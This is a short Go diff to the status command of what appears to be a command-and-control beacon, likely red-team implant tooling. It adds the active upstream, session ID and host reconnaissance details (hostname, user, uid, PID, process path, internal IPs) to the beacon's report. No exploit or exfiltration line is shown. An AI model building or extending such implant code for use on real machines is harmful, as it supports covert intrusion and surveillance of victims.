@@ -2,16 +2,18 @@ package rbcmd
 
 import (
 	"fmt"
-	config "redbull"
+	"strings"
 )
 
 type StatusCommand struct{}
 
-func (c *StatusCommand) Help() string {
-	return "Display beacon status information: status"
-}
-
 func (c *StatusCommand) Execute(ctx *Context, cmd string) (string, string, error) {
-	return fmt.Sprintf("Upstream: %s\nProxy: %s\nUsing KRB: %t\nSleep Time: %s", config.UPSTREAM, config.PROXY_URL, config.USE_KRB, *ctx.SleepTime), "", nil
+	upstream := ctx.Upstreams.Active()
+	status := fmt.Sprintf("Session: %s\nUpstream: %s\nProxy: %s\nUsing KRB: %t\nSleep Time: %s", ctx.SessionID, upstream.URL, upstream.ProxyURL, upstream.UseKrb, *ctx.SleepTime)
+	if ctx.Host != nil {
+		status += fmt.Sprintf("\nHostname: %s\nOS/Arch: %s/%s\nKernel: %s\nUser: %s (uid %s)\nPID: %d\nProcess: %s\nInternal IPs: %s\nGo Version: %s\nBuild ID: %s",
+			ctx.Host.Hostname, ctx.Host.OS, ctx.Host.Arch, ctx.Host.Kernel, ctx.Host.Username, ctx.Host.UID,
+			ctx.Host.PID, ctx.Host.ProcessPath, strings.Join(ctx.Host.InternalIPs, ", "), ctx.Host.GoVersion, ctx.Host.BuildID)
+	}
+	return status, "", nil
 }
-